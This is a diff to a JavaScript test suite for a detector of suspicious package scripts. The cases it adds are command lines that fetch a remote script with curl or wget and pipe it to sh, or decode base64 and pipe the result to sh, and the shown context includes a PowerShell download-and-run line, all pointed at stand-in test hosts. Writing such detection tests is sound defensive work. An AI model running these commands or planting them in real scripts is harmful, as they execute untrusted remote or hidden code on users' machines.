@@ -40,7 +40,11 @@ describe('suspicious scripts', () => {
     'remote-code: DownloadFile … ; Start-Process': [
       "powershell -Command \"(New-Object Net.WebClient).DownloadFile('https://x.example.test/a.exe','a.exe'); Start-Process a.exe\"",
     ],
-    'remote-code: wget … | sh': ['wget -qO- https://x.example.test/i.sh | sh'],
+    'remote-code: wget … | sh': [
+      'wget -qO- https://x.example.test/i.sh | sh',
+      '(curl -s https://x.example.test/i.sh || wget -qO- https://x.example.test/i.sh) | sh',
+      `sh -c 'wget -qO- https://x.example.test/i.sh || curl -s https://x.example.test/i.sh' | sh`,
+    ],
     'remote-code: curl … | node': [
       'curl https://x.example.test/i.js | node',
       'curl https://x.example.test | node -',
@@ -77,6 +81,7 @@ describe('suspicious scripts', () => {
     ],
     'encoded-code: base64 -d … | sh': [
       `echo ${BASE64} | base64 -d | sh`,
+      `echo ${BASE64} | (base64 -D 2>/dev/null || base64 -d) | sh`,
       `echo '${BASE64}' | base64 --decode | sh`,
       `echo ${BASE64}|base64 -di | sh`,
     ],
@@ -137,6 +142,8 @@ describe('suspicious scripts', () => {
 
   test('common scripts are silent', () => {
     for (const line of [
+      '(tsc -b && curl -f https://x.example.test/health) || sh report.sh',
+      `sh -c 'cat notes.md' | sh format.sh`,
       'node ./scripts/download-binary.js',
       'node-gyp rebuild',
       'node-gyp-build',
